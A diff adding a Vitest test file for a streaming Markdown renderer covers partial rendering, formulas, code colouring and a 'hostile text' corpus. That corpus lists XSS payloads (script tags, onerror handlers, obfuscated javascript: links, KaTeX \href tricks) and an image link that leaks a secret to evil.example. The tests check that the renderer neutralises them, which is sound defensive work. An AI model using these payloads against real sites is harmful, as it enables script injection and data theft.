@@ -1,0 +1,205 @@
+import { describe, expect, test } from 'vitest';
+import { MarkdownStream } from './stream';
+
+const LABELS = { copy: 'Copy', image: 'Image: ', code: 'Code' };
+
+function start(): { host: HTMLElement; write: (text: string) => void; stream: MarkdownStream } {
+  const host = document.createElement('div');
+  document.body.replaceChildren(host);
+  const stream = new MarkdownStream(host, LABELS);
+  const write = (text: string) => {
+    stream.append(text);
+    stream.flush();
+  };
+  return { host, write, stream };
+}
+
+function render(text: string): HTMLElement {
+  const { host, write, stream } = start();
+  write(text);
+  stream.finish();
+  return host;
+}
+
+describe('while text is coming', () => {
+  const halves: [string, RegExp][] = [
+    ['Some **bold words** here', /\*/],
+    ['Some *light words* here', /\*/],
+    ['- item **one**\n- item `two`\n', /[*`-]/],
+    ['see [the page](https://example.org/a) now', /[[\]()]/],
+    ['an image ![alt text](https://example.org/a.png) here', /[![\]()]|https/],
+    ['area $$x^2 + y$$ is', /[$^]/],
+    ['area \\(x^2 + y\\) is', /[\\(^]/],
+    ['text\n\n$$\nx^2\n+ y\n$$\n\nmore', /\$|\+/],
+    ['| a | b |\n|---|---|\n| 1 | 2 |\n| 3 | 4 |\n', /\||---/],
+    ['## Head\n\ntext', /#/],
+    ['Title:\n- one\n- two', /-/],
+    ['say:\n\n```py\nx = 1\n```\n\nend', /`/],
+    ['~~gone~~ and `code **x`', /~|`/],
+  ];
+  for (const [text, raw] of halves) {
+    test(`no mark flashes up in ${JSON.stringify(text)}`, () => {
+      const { host, write } = start();
+      for (const sign of text) {
+        write(sign);
+        const clone = host.cloneNode(true) as HTMLElement;
+        clone.querySelectorAll('.math, code').forEach((element) => element.remove());
+        expect(clone.textContent).not.toMatch(raw);
+      }
+    });
+  }
+
+  test('money is text at every moment', () => {
+    const { host, write } = start();
+    let sent = '';
+    for (const sign of 'It is $5 and $6 a day') {
+      write(sign);
+      sent += sign;
+    }
+    expect(host.textContent).toBe(sent);
+    expect(host.querySelector('.math')).toBeNull();
+  });
+
+  test('an open code block is code from its first line, and its text node stays the same', () => {
+    const { host, write, stream } = start();
+    write('```python\n');
+    const code = host.querySelector('pre > code');
+    expect(code).not.toBeNull();
+    const text = code?.firstChild;
+    for (const piece of ['a', ' = 1\n', 'b\n', '\n', 'c = **x', '\n``', '`\n']) write(piece);
+    expect(host.querySelector('pre > code')).toBe(code);
+    expect(code?.textContent).toBe('a = 1\nb\n\nc = **x');
+    expect(code?.firstChild).toBe(text);
+    stream.finish();
+  });
+
+  test('finished blocks, items and rows are never touched again', () => {
+    const { host, write, stream } = start();
+    write('first **block**\n\n- one\n- two\n- thr');
+    const kept = [host.querySelector('p'), host.querySelectorAll('li')[0], host.querySelectorAll('li')[1]];
+    write('ee\n- four\n\n| a |\n|---|\n| 1 |\n| 2');
+    const row = host.querySelector('tbody tr');
+    const seen: MutationRecord[] = [];
+    const observer = new MutationObserver((records) => seen.push(...records));
+    for (const element of [...kept, row])
+      if (element) observer.observe(element, { subtree: true, childList: true, characterData: true });
+    write(' |\n| 3 |\n\nlast paragraph\n\nand more');
+    stream.finish();
+    seen.push(...observer.takeRecords());
+    expect(seen).toEqual([]);
+    expect([...host.querySelectorAll('li')].slice(0, 2)).toEqual(kept.slice(1));
+    expect(host.querySelector('tbody tr')).toBe(row);
+  });
+
+  test('growing text is appended to its text node', () => {
+    const { host, write } = start();
+    write('some words');
+    const node = host.querySelector('p')?.firstChild;
+    write(' and more words');
+    expect(host.querySelector('p')?.firstChild).toBe(node);
+    expect(node?.textContent).toBe('some words and more words');
+  });
+});
+
+describe('formulas and colours', () => {
+  test('formulas are drawn with their roots and stretchy signs', async () => {
+    const { host, write, stream } = start();
+    write('$$\\frac{\\sqrt{\\pi}}{2}$$\n\nand $\\widehat{abc}$');
+    stream.finish();
+    await stream.ready();
+    expect(host.querySelectorAll('.katex')).toHaveLength(2);
+    expect(host.querySelectorAll('.katex svg').length).toBeGreaterThanOrEqual(2);
+  });
+
+  test('a formula that cannot be read stays as its source', async () => {
+    const { host, write, stream } = start();
+    write('bad $\\frac{1$ here');
+    stream.finish();
+    await stream.ready();
+    expect(host.textContent).toBe('bad \\frac{1 here');
+  });
+
+  test('code is coloured once it is complete, and its text stays exact', async () => {
+    const { host, write, stream } = start();
+    write('```js\nconst a = "<b>";\n```\n');
+    await stream.ready();
+    expect(host.querySelector('code .hljs-keyword')?.textContent).toBe('const');
+    expect(host.querySelector('code')?.textContent).toBe('const a = "<b>";');
+    stream.finish();
+  });
+});
+
+describe('hostile text', () => {
+  const corpus = [
+    '<script>alert(1)</script>',
+    '<img src=x onerror=alert(1)>',
+    '<svg/onload=alert(1)>',
+    '<iframe src="javascript:alert(1)"></iframe>',
+    '[x](javascript:alert(1))',
+    '[x](JaVaScRiPt:alert(1))',
+    '[x](java\tscript:alert(1))',
+    '[x](&#106;avascript:alert(1))',
+    '[x](javascript&colon;alert(1))',
+    '[x](data:text/html;base64,PHNjcmlwdD4=)',
+    '[x](vbscript:x) [y](file:///etc/passwd) [z](//evil.example) [w](blob:x)',
+    '![x](https://evil.example/leak.png?q=secret)',
+    '![x](data:image/svg+xml,<svg onload=alert(1)>)',
+    '![x"onerror="alert(1)](x)',
+    '<https://evil.example/" onmouseover="alert(1)>',
+    '[x](https://a.example/"onclick="alert(1) "t\\"onclick=\\"x")',
+    '[x]: javascript:alert(1)\n\n[x]',
+    '```"><img src=x onerror=alert(1)>\n</code></pre><script>alert(1)</script>\n```',
+    '`<img src=x onerror=alert(1)>`',
+    '| <img src=x onerror=alert(1)> |\n|---|\n| </td><script>alert(1)</script> |',
+    '$\\href{javascript:alert(1)}{x}$ $\\url{javascript:alert(1)}$ $\\includegraphics{https://evil.example/x.png}$',
+    '$$\\htmlData{x=y}{z} \\htmlStyle{background:url(https://evil.example)}{a}$$',
+    '$</span><img src=x onerror=alert(1)>$',
+    '[^<img src=x>]: note\n\nsee [^<img/src=x>]',
+    '<a href="javascript:alert(1)" style="position:fixed">x</a>',
+    '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
+    '- <form action="javascript:alert(1)"><button>x</button>',
+    '# <base href="https://evil.example">',
+    '&lt;script&gt;alert(1)&lt;/script&gt;',
+  ];
+  for (const text of corpus) {
+    test(`is harmless: ${JSON.stringify(text).slice(0, 70)}`, async () => {
+      const { host, write, stream } = start();
+      for (const sign of text) {
+        write(sign);
+        assertHarmless(host);
+      }
+      stream.finish();
+      await stream.ready();
+      assertHarmless(host);
+    });
+  }
+
+  test('raw HTML is shown as text', () => {
+    expect(render('<b>bold?</b> <div>x</div>').textContent).toBe('<b>bold?</b> <div>x</div>');
+  });
+
+  test('an image is a link, not a request', () => {
+    const host = render('![a cat](https://example.org/cat.png)');
+    expect(host.querySelector('img')).toBeNull();
+    expect(host.querySelector('a')?.getAttribute('href')).toBe('https://example.org/cat.png');
+    expect(host.querySelector('a')?.rel).toContain('noopener');
+  });
+});
+
+const ALLOWED = new Set(
+  (
+    'p h1 h2 h3 h4 h5 h6 ul ol li blockquote hr pre code div span table thead tbody tr th td a strong em del br sup input button ' +
+    'math semantics mrow mi mo mn mtext annotation svg path mstyle merror mfrac msup'
+  ).split(' '),
+);
+
+function assertHarmless(host: Element): void {
+  for (const element of host.querySelectorAll('*')) {
+    expect(ALLOWED).toContain(element.localName);
+    for (const { name, value } of element.attributes) {
+      expect(name).not.toMatch(/^on|^src$|^action$|^formaction$|^srcset$/);
+      if (name === 'href') expect(value).toMatch(/^(https?:\/\/|mailto:)/);
+      if (name === 'style') expect(value).not.toMatch(/url|expression/);
+    }
+  }
+}
